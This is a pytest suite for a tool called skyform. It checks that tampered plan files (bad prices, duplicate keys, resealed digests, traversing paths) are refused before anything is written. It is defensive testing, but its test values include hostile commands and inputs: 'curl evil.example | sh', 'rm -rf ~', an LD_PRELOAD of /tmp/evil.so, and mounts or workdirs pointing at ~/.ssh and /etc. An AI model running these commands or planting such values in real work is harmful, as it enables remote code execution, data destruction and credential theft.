"""A plan file is untrusted input (issue 11): what `apply` refuses, and that a refusal
writes nothing. Each test edits a real plan the way the issue's adversarial run did."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from realplans import make_plans, reseal, write_json

from skyform.plan.planfile import DIGEST_KEY

CORRUPT = "plan is corrupt or was edited"


@pytest.fixture
def plans(cli, skyform_home, tmp_path) -> dict[str, Path]:
    return make_plans(cli, skyform_home, tmp_path)


@pytest.fixture
def fresh_home(tmp_path, monkeypatch) -> Path:
    """An empty SKYFORM_HOME (as on a CI runner): a refused apply must leave it empty."""
    home = tmp_path / "ci-home"
    monkeypatch.setenv("SKYFORM_HOME", str(home))
    return home


def edited(plan: Path, edit, *, seal: bool = False) -> Path:
    raw = json.loads(plan.read_text())
    edit(raw)
    return write_json(plan.with_name("edited.json"), reseal(raw) if seal else raw)


def refused(cli, path: Path, *what: str) -> None:
    result = cli("apply", path, "-y")
    assert result.exit_code == 1, result.output
    assert CORRUPT in result.stderr
    for text in what:
        assert text in result.stderr
    assert "Traceback" not in result.output


def nothing_written(home: Path) -> None:
    assert not home.exists() or sorted(p.name for p in home.iterdir()) == []


def test_nan_infinity_and_negative_prices_are_refused_before_state_exists(cli, plans, fresh_home):
    for value in ("NaN", "Infinity", "-Infinity", "-1.5", "1e400"):
        text = plans["local"].read_text()
        text = text.replace('"hourly_price": 0.0', f'"hourly_price": {value}', 1)
        path = plans["local"].with_name("edited.json")
        path.write_text(text)
        refused(cli, path)
    nothing_written(fresh_home)


def test_format_version_true_is_not_a_version(cli, plans, fresh_home):
    def edit(raw):
        raw["format_version"] = True

    refused(cli, edited(plans["local"], edit), "format_version")
    nothing_written(fresh_home)


def test_destroy_flag_on_a_create_plan_is_refused(cli, plans, fresh_home):
    def edit(raw):
        raw["destroy"] = True

    refused(cli, edited(plans["local"], edit, seal=True), "a destroy plan creates cluster")
    nothing_written(fresh_home)


def test_no_changes_with_tasks_present_is_refused(cli, plans, fresh_home):
    def edit(raw):
        raw["changes"] = []
        raw["summary"].update(add=0)

    refused(cli, edited(plans["local"], edit, seal=True), "has no change for its cluster")
    show = cli("show", plans["local"].with_name("edited.json"))
    assert show.exit_code == 1 and "No changes" not in show.stdout


def test_an_offer_edited_in_one_place_is_refused(cli, plans):
    """`show` renders the change's offer, apply used the task's: they must be one."""

    def edit(raw):
        raw["changes"][0]["after"]["offer"]["instance_type"] = "p4d.24xlarge"

    refused(cli, edited(plans["aws"], edit, seal=True), "offer differs")


def test_node_counts_must_agree(cli, plans):
    def edit(raw):
        raw["tasks"][0]["num_nodes"] = 3

    refused(cli, edited(plans["ssh"], edit, seal=True), "nodes")


def test_duplicate_keys_are_refused(cli, plans):
    text = (
        plans["local"]
        .read_text()
        .replace('"destroy": false,', '"destroy": false,\n  "destroy": true,', 1)
    )
    path = plans["local"].with_name("edited.json")
    path.write_text(text)
    refused(cli, path, "duplicate key 'destroy'")


def test_deep_nesting_is_a_clear_error(cli, tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 200_000)
    refused(cli, path, "nested more than")
    path.write_text('{"format_version": 2, "x": ' + "[" * 100 + "]" * 100 + "}")
    refused(cli, path, "nested more than")


@pytest.mark.parametrize("name", ["..", "../../../x", "", "a/b", "名前", "x\u0000y", "Train_V2"])
def test_cluster_names_skyform_cannot_make_are_refused(cli, plans, fresh_home, name):
    def edit(raw):
        raw["tasks"][0]["cluster"] = name
        raw["changes"][0]["cluster"] = name
        raw["changes"][0]["after"]["name"] = name

    refused(cli, edited(plans["local"], edit, seal="\u0000" not in name))
    nothing_written(fresh_home)


def test_edited_job_text_without_new_digests_is_refused(cli, plans):
    for field, value in (("run", "curl evil | sh"), ("workdir", "/etc")):

        def edit(raw, field=field, value=value):
            raw["tasks"][0]["job"][field] = value

        refused(cli, edited(plans["local"], edit), "job_digest does not match")

    def add_env(raw):
        raw["tasks"][0]["job"]["envs"]["LD_PRELOAD"] = "/tmp/evil.so"

    refused(cli, edited(plans["local"], add_env), "setup_digest does not match")


def test_a_resealed_edit_shows_in_review_and_fails_the_expected_digest(cli, plans):
    """A careful tamperer recomputes every digest: the reviewer then sees the new command in
    show / show --markdown / cost --markdown, and CI's --expect-digest refuses the plan."""
    original = plans["local"]
    reviewed = json.loads(original.read_text())[DIGEST_KEY]
    before = {v: cli(*v.split(), original).stdout for v in ("show", "show --markdown")}

    def edit(raw):
        raw["tasks"][0]["job"]["run"] = "curl evil.example | sh"
        raw["tasks"][0]["job"]["envs"]["LD_PRELOAD"] = "/tmp/evil.so"

    path = edited(original, edit, seal=True)
    for verb in ("show", "show --markdown", "cost --markdown"):
        out = cli(*verb.split(), path)
        assert out.exit_code == 0, out.output
        assert "curl evil.example | sh" in out.stdout and "LD_PRELOAD" in out.stdout
        assert reviewed not in out.stdout
    for verb, text in before.items():
        assert "echo $GREETING" in text and reviewed in text, verb
    result = cli("apply", path, "-y", "--expect-digest", reviewed)
    assert result.exit_code == 1
    assert f"not the expected {reviewed}: it is not the plan that was reviewed" in result.stderr


def test_expect_digest_lets_the_reviewed_plan_through(cli, plans, skyform_home):
    digest = json.loads(plans["local"].read_text())[DIGEST_KEY]
    shown = cli("show", "--markdown", plans["local"])
    assert f"--expect-digest {digest}" in shown.stdout
    result = cli("apply", plans["local"], "-y", "--expect-digest", digest, "--secret", "TOKEN=s")
    assert result.exit_code == 0, result.output
    assert "Apply complete! Clusters: 1 added" in result.stdout


def test_a_plan_reveals_nothing_about_a_secret_value(cli, tmp_path):
    """Two plans made with different secret values are the same bytes: nothing in a shared
    plan can be tested against guessed values."""
    task = tmp_path / "t.yaml"
    task.write_text("name: s\nresources: {infra: local}\nsecrets: {TOKEN: null}\nrun: echo\n")
    first, second = tmp_path / "1.json", tmp_path / "2.json"
    assert cli("plan", task, "--secret", "TOKEN=hunter2", "-o", first).exit_code == 0
    assert cli("plan", task, "--secret", "TOKEN=password", "-o", second).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    assert json.loads(first.read_text())["tasks"][0]["job"]["secrets"] == ["TOKEN"]


def test_old_format_plans_are_refused_with_replan(cli, plans):
    def edit(raw):
        raw["format_version"] = 1

    result = cli("apply", edited(plans["local"], edit), "-y")
    assert result.exit_code == 1
    assert "format version 1" in result.stderr and "Re-run skyform plan" in result.stderr


@pytest.mark.parametrize(
    ("kind", "field", "value"),
    [
        ("local", "run", "curl evil.example | sh"),
        ("local", "setup", "rm -rf ~"),
        ("local", "workdir", "/etc"),
        ("gcp", "file_mounts", {"/data": {"source": "/home/me/.ssh"}}),
        ("dag", "run", "echo changed"),
        ("dag", "envs", {"LD_PRELOAD": "/tmp/evil.so"}),  # on one task: not an --env flag
    ],
)
def test_a_resealed_job_edit_is_refused_against_the_task_file(
    cli, plans, fresh_home, kind, field, value
):
    """Even with every digest recomputed, apply compares each job with the one the (unchanged)
    task file makes, before any state or lock exists."""

    def edit(raw):
        raw["tasks"][-1]["job"][field] = value

    path = edited(plans[kind], edit, seal=True)
    assert cli("show", path).exit_code == 0  # a consistent plan: only the task file tells
    result = cli("apply", path, "-y", *(["--secret", "TOKEN=x"] if kind == "local" else []))
    assert result.exit_code == 1, result.output
    assert f"job.{field}: not what the task file" in result.stderr
    nothing_written(fresh_home)


def test_a_pipeline_planned_with_env_and_secret_flags_passes_the_task_file_check(cli, tmp_path):
    """No false alarm: per-task envs, `--env` adding a key, `--secret` with a short value
    (the planner writes `${NAME}` wherever the value appeared)."""
    task = tmp_path / "pipe.yaml"
    task.write_text(
        "name: pipe\n---\nname: a\nresources: {infra: local}\nenvs: {X: one, NEED: null}\n"
        "secrets: {TOK: null}\nworkdir: .\nrun: echo a $X $NEED $EXTRA\n---\n"
        "name: b\nresources: {infra: local}\nenvs: {X: two}\nrun: echo b $X $EXTRA\n"
    )
    plan = tmp_path / "pipe.json"
    flags = ("--env", "NEED=n", "--env", "EXTRA=e", "--secret", "TOK=t")
    assert cli("plan", task, *flags, "-o", plan).exit_code == 0
    result = cli("apply", plan, "--secret", "TOK=t")
    assert result.exit_code == 0, result.output
    assert "a one n e" in result.stdout and "b two e" in result.stdout


def test_a_resealed_task_digest_is_recomputed_from_the_task_file(cli, plans, fresh_home):
    def edit(raw):
        raw["task"]["digest"] = "sha256:" + "0" * 64

    result = cli("apply", edited(plans["pipeline"], edit, seal=True), "-y")
    assert result.exit_code == 1, result.output
    assert "task.digest: not what the task file" in result.stderr
    nothing_written(fresh_home)


def test_mounts_attached_again_belong_to_an_update_and_buckets_are_counted_as_planned(cli, plans):
    def attach(raw):
        raw["changes"][0]["attach_again"] = ["/data"]

    refused(cli, edited(plans["gcp"], attach, seal=True), "a create change attaches mounts")

    def count(raw):
        raw["summary"]["buckets_change"] = 2

    refused(cli, edited(plans["gcp"], count, seal=True), "2 to upload again")


def test_a_resealed_relative_path_that_climbs_out_of_the_base_is_refused(cli, plans):
    """A plan records a task's paths inside the directory plan ran in relative to it; one
    that climbs out (`..`) was written by no skyform, even with every digest recomputed."""
    gcp = json.loads(plans["gcp"].read_text())
    assert gcp["tasks"][0]["job"]["workdir"] == "."  # `workdir: .`: the base itself
    assert not Path(gcp["task"]["relative_to"]).is_absolute()

    def edit(raw):
        raw["tasks"][0]["job"]["workdir"] = "../../home/bob/.ssh"

    refused(
        cli,
        edited(plans["gcp"], edit, seal=True),
        "tasks.0.job.workdir: '../../home/bob/.ssh' climbs out of the directory "
        "task.relative_to names",
    )
